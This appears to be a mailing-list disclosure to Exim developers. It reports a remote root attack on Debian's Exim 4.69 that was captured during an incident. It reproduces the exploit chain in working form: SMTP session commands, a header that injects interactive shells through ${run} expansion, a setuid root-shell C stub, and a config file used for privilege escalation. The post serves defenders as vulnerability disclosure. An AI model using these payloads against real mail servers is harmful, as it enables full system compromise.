[exim-dev] Remote root vulnerability in Exim

Top Page

Reply to this message
Author: Sergey Kononenko
To: exim-dev
CC: pkg-exim4-maintainers
Subject: [exim-dev] Remote root vulnerability in Exim

While investigating security break in the network of my company, I've
captured (by tcpdump) sequence of successful remote root attack through
Exim. It was Exim from Debian Lenny (exim4-daemon-light 4.69-9). I
didn't find email of current maintainer of Exim, so I've decided to
write to this mailing lists. I don't want to publish all details of
attack before developers can investigate and fix vulnerability.
So I ask Exim maintainers to contact me and I will send themcomplete
captured sequence of attack.
Here I can put brief sequence of attack:

EHLO mail.domain.com
MAIL FROM: <orderruc0e@???>
RCPT TO: <postmaster@???>
MAILbombhdr0001: M4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0
MAILbombhdr0054: M4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0mbM4iLB0m
HeaderX: ${run{/bin/sh -c 'exec /bin/sh -i <&3 >&0 2>&0'}}${run{/bin/sh -c 'exec /bin/sh -i <&4 >&0 2>&0'}}........
about 700000 the same strings
MAIL FROM: <orderruc0e@???>
RCPT TO: <postmaster@???>

after that attacker gets shell with id of user Debian-exim and cwd
in /var/spool/exim4
then it put file there file setuid with trivial execution of root shell:
int main(intargc, char *argv[])
        setgroups(0, NULL);
        execl("/bin/sh", "sh", NULL);

and create another file e.conf withfollowing content:
spool_directory = ${run{/bin/chown
root:root /var/spool/exim4/setuid}}${run{/bin/chmod 4755 /var/spool/exim4/setuid}}

the he runs:
exim -Ce.conf -q

and gets suid bit on /var/spool/exim4/setuideverything else is trivial.

I haven'treproduced remote part of attack, but escalationfrom Debian-exim to
root works also at exim4-daemon-light 4.72-2 from Debian Squeeze.

With bestregards,
Sergey Kononenko.